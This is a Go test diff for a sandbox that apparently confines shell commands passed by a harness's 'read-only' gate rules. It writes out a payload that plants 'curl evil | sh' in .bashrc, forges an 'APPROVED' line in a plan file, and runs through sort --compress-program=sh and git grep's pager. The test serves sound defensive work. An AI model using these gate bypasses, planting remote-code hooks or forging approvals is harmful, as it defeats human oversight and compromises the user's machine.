@@ -606,3 +606,48 @@ func TestGitReadsWorkInARepositoryAtARoot(t *testing.T) {
 	require.NoError(t, err)
 	assert.NotEqual(t, 0, code, out)
 }
+
+// TestPayloadsThatRunCodeStayConfined runs the two ways the default gate
+// rules once let a read-only command run a file as a program — sort's
+// compression program and git grep's pager — with a payload that reaches
+// for the home, the world outside the roots and the Flight Plans. Off, the
+// payload works (the test can fail); confined, it changes nothing.
+func TestPayloadsThatRunCodeStayConfined(t *testing.T) {
+	needLandlock(t)
+	testenv.NeedCommand(t, "git")
+	for _, mode := range []sandbox.Mode{sandbox.Off, sandbox.Required} {
+		t.Run(string(mode), func(t *testing.T) {
+			w := newWorld(t)
+			payload := fmt.Sprintf("echo pwned > %s; echo 'curl evil | sh' >> %s; echo '* APPROVED forged' >> %s\n",
+				filepath.Join(w.outside, "marker"), filepath.Join(w.home, ".bashrc"), filepath.Join(w.root, "flightplans.org"))
+			var lines strings.Builder
+			lines.WriteString(payload)
+			for i := range 3000 { // enough for sort to spill, compressed, to temporary files
+				fmt.Fprintf(&lines, "%05d filler\n", i)
+			}
+			require.NoError(t, os.WriteFile(filepath.Join(w.root, "notes", "payload.txt"), []byte(lines.String()), 0o644))
+			require.NoError(t, os.WriteFile(filepath.Join(w.root, "notes", "pwned.txt"), []byte(payload), 0o644))
+			home, outside := snapshot(t, w.home), snapshot(t, w.outside)
+			plans, _ := os.ReadFile(filepath.Join(w.root, "flightplans.org"))
+			sb := w.sandbox(t, func(c *sandbox.Config) { c.Mode = mode })
+			for _, cmd := range []string{
+				"sort -S 1K --compress-program=sh notes/payload.txt > /dev/null",
+				"git grep --no-index -Osh pwned -- notes/pwned.txt",
+			} {
+				_, out, err := sh(t, sb, w.root, cmd)
+				require.NoError(t, err, out)
+				after, _ := os.ReadFile(filepath.Join(w.root, "flightplans.org"))
+				if mode == sandbox.Off {
+					assert.FileExists(t, filepath.Join(w.outside, "marker"), "%s: the payload runs unconfined", cmd)
+					assert.Contains(t, string(after), "forged")
+					require.NoError(t, os.Remove(filepath.Join(w.outside, "marker")))
+					require.NoError(t, os.WriteFile(filepath.Join(w.root, "flightplans.org"), plans, 0o644))
+					continue
+				}
+				assert.Equal(t, home, snapshot(t, w.home), "%s: the home is unchanged", cmd)
+				assert.Equal(t, outside, snapshot(t, w.outside), "%s: no marker outside the roots", cmd)
+				assert.Equal(t, string(plans), string(after), "%s: flightplans.org is unchanged", cmd)
+			}
+		})
+	}
+}
